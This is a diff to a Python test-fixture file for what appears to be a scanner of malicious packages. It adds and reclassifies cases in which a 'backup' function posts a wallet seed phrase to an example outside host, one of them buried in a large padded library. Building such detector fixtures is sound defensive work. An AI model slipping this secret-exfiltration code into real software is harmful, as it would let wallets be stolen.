@@ -56,14 +56,28 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "pkg/__init__.py", 3, "import",
     ),
+    # In a release with little else, sending the seed phrase is what the release is for.
     "wallet-secret-sent/seed-phrase-posted-when-called": Positive(
-        "wallet-secret-sent", H,
+        "wallet-secret-sent", C,
         W({"pkg/wallet.py": """
             import requests
 
             def backup(phrase):
                 requests.post("https://api.example.com/backup", json={"mnemonic": phrase})
         """}),
+        "pkg/wallet.py", 4, "call",
+    ),
+    "wallet-secret-sent/seed-phrase-posted-when-called-in-a-large-library": Positive(
+        "wallet-secret-sent", H,
+        W({
+            "pkg/wallet.py": """
+            import requests
+
+            def backup(phrase):
+                requests.post("https://api.example.com/backup", json={"mnemonic": phrase})
+            """,
+            **{f"pkg/module_{n}.py": f"def helper_{n}(value):\n    return value * {n}\n" * 600 for n in range(3)},
+        }),
         "pkg/wallet.py", 4, "call",
     ),
     "wallet-secret-sent/private-key-posted-at-import": Positive(
